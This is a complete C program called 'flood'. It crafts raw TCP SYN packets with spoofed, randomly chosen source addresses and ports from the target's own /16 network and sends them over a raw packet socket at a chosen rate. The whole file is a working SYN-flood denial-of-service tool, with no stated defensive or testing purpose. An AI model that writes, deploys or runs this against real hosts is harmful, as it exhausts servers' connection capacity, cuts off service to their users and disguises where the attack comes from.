// SYNs from addresses of the interface's own net that nobody has, each from another address and port, as fast as RATE a second.
//
// flood INTERFACE MAC OURS COUNT RATE [SEED]: MAC and OURS are of who is flooded; sources are of its net of 16 bits, from x.y.1.0 on.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint64_t state;
static uint64_t chance(void)
{
    uint64_t z = (state += 0x9e3779b97f4a7c15u);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
    return z ^ (z >> 31);
}
static uint32_t sum(const unsigned char *at, int size)
{
    uint32_t total = 0;
    for (int i = 0; i < size; i += 2) total += (uint32_t)at[i] << 8 | at[i + 1];
    return total;
}
static void put(unsigned char *at, uint32_t value, int octets)
{
    for (int i = octets; i-- > 0; value >>= 8) at[i] = (unsigned char)value;
}
static void put_sum(unsigned char *at, uint32_t total)
{
    while (total >> 16) total = (total & 0xffff) + (total >> 16);
    put(at, ~total & 0xffff, 2);
}
static uint64_t nanoseconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

int main(int count, char **words)
{
    if (count < 6) { fprintf(stderr, "flood INTERFACE MAC OURS COUNT RATE [SEED]\n"); return 2; }
    unsigned char frame[58] = {0};
    if (sscanf(words[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", frame, frame + 1, frame + 2, frame + 3, frame + 4, frame + 5) != 6) return 2;
    uint32_t ours = ntohl(inet_addr(words[3]));
    uint64_t frames = strtoull(words[4], NULL, 10), rate = strtoull(words[5], NULL, 10), again = 0;
    state = count > 6 ? strtoull(words[6], NULL, 10) : 1;
    memcpy(frame + 6, "\x02\x66\0\0\0\1\x08\0\x45\0\0\x2c\0\0\x40\0\x40\6", 18);
    put(frame + 30, ours, 4);
    put(frame + 36, 7, 2);
    memcpy(frame + 46, "\x60\2\xff\xff\0\0\0\0\2\4\5\xb4", 12);
    int plug = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1]), .sll_halen = 6 };
    if (plug < 0 || at.sll_ifindex == 0) { perror(words[1]); return 1; }
    uint64_t began = nanoseconds();
    for (uint64_t i = 0; i < frames; i++) {
        uint64_t word = chance();
        put(frame + 26, (ours & 0xffff0000u) + 256 + (uint32_t)(word % 65000), 4);
        put(frame + 34, 1024 + (uint32_t)(word >> 17) % 64000, 2);
        put(frame + 38, (uint32_t)(word >> 32), 4);
        put(frame + 24, 0, 2);
        put_sum(frame + 24, sum(frame + 14, 20));
        put(frame + 50, 0, 2);
        put_sum(frame + 50, sum(frame + 26, 8) + 6 + 24 + sum(frame + 34, 24));
        while (sendto(plug, frame, sizeof frame, 0, (struct sockaddr *)&at, sizeof at) < 0) {
            if (errno != ENOBUFS && errno != EAGAIN) { perror("send"); return 1; }
            again++;
            usleep(1000);
        }
        while (i % 16 == 0 && nanoseconds() - began < i * 1000000000u / rate) usleep(200);
    }
    printf("{\"sent\":%llu,\"again\":%llu,\"seconds\":%.1f}\n", (unsigned long long)frames, (unsigned long long)again, (double)(nanoseconds() - began) * 1e-9);
    return 0;
}
